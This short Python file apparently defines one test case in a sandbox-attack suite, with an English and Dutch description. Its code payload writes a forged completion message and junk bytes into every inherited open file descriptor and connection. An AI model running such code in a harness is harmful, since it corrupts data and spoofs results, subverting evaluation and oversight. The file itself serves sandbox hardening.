"""Writes into every open file and connection that it was started with."""

from attacks.attack import Attack

ATTACK = Attack(
    __doc__,
    nl="Schrijft in elk open bestand en elke verbinding waarmee hij is gestart.",
    alone=True,
    code="""
import os, socket, stat
for number in range(3, 400):
    try:
        kind = os.fstat(number).st_mode
    except OSError:
        continue
    for data in (b'{"ending": "done", "notebook": "{}"}\\n', b"\\x00" * 64, b"\\xff" * 64):
        try:
            os.set_blocking(number, False)
            os.write(number, data)
        except OSError:
            break
""",
)
